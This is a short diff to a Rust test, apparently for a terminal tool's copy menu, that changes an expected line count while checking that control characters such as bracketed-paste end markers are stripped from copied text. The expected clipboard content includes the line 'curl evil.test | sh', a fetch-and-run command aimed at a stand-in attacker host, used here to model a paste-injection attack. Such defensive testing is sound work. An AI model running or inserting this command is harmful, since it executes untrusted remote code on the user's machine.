@@ -388,7 +388,7 @@ async fn the_yank_menu_says_how_many_lines_it_copies_and_copies_nothing_that_a_t
     let mut harness = Harness::open(demo::Settings::default(), store, "/app").await;
     harness.press("4 ] y").await;
     harness.shows("command of the step");
-    harness.shows("2 lines, without 3 control characters: RUN make[201~");
+    harness.shows("3 lines, without 3 control characters: RUN make[201~");
     harness.press("c").await;
     assert_eq!(harness.copied, ["RUN make[201~\ncurl evil.test | sh\n201~"]);
 }
